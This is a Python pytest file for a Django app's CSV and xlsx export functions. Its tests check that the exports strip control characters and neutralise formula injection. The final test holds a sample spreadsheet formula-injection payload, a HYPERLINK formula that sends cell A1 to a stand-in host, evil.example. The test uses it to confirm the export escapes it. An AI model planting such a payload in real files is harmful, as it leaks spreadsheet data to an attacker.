"""The xlsx exports never fail on a stored value: control characters the xlsx XML cannot
hold (stored before the input checks of ``gridgov.core.validators``) are left out of the
cells (openpyxl's ``ILLEGAL_CHARACTERS_RE``) instead of raising ``IllegalCharacterError``."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from gridgov.campaigns.models import AssignmentSlip
from gridgov.tasks.models import Task
from gridgov.tasks.tests.factories import TaskStreet, make_task
from gridgov.web.exports import table_csv, table_xlsx
from gridgov.web.tests.test_manage_campaigns import issue

#: Every C0 control, DEL and some ordinary text.
NOISY = "".join(chr(i) for i in range(0x20)) + "\x7f井盖"


def rows_of(body: bytes) -> list[tuple[Any, ...]]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


def test_table_xlsx_drops_what_the_xlsx_cannot_hold() -> None:
    day = dt.datetime(2025, 6, 2, 9, 0)  # noqa: DTZ001 - Excel cells are naive
    body = table_xlsx(sheet_title="T", header=["a\x01", "b"], rows=[[NOISY, 3], ["plain", day]])
    rows = rows_of(body)
    assert rows[0] == ("a", "b")
    # TAB, LF and CR stay (a multi-line description; an XML reader reads CR as LF); DEL
    # is legal in XML and stays too.
    assert rows[1] == ("\t\n\n\x7f井盖", 3)
    assert rows[2] == ("plain", day)


@pytest.mark.django_db
def test_the_task_list_export_answers_with_a_stored_control_character(
    login: Any, street: TaskStreet
) -> None:
    task = make_task(area=street["g11"], task_type=street.types["patrol"], title="ok")
    Task.objects.filter(pk=task.pk).update(title="x\x01\x0by")
    response = login("lin").get("/manage/tasks/export.xlsx")
    assert response.status_code == 200
    assert [r[1] for r in rows_of(response.content)[1:]] == ["xy"]


@pytest.mark.django_db
@pytest.mark.usefixtures("_media")
def test_the_campaign_export_answers_with_a_stored_control_character(
    login: Any, street: TaskStreet
) -> None:
    campaign = issue(street, "g11")
    AssignmentSlip.objects.filter(campaign=campaign).update(problem="乱堆放\x01\x1f")
    response = login("zhou").get(f"/manage/campaigns/{campaign.pk}/export.xlsx")
    assert response.status_code == 200
    assert rows_of(response.content)[1][3] == "乱堆放"


def test_a_text_that_looks_like_a_formula_stays_text() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    body = table_xlsx(sheet_title="T", header=["h"], rows=[[attack], ["+1"], [-5]])
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert [c.value for c in cells] == [attack, "+1", -5]

    text = table_csv(header=["h"], rows=[[attack], ["@SUM(1)"], ["-3幢"], [-5], ["井盖"]])
    lines = text.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[2:] == ["'@SUM(1)", "'-3幢", "-5", "井盖"]
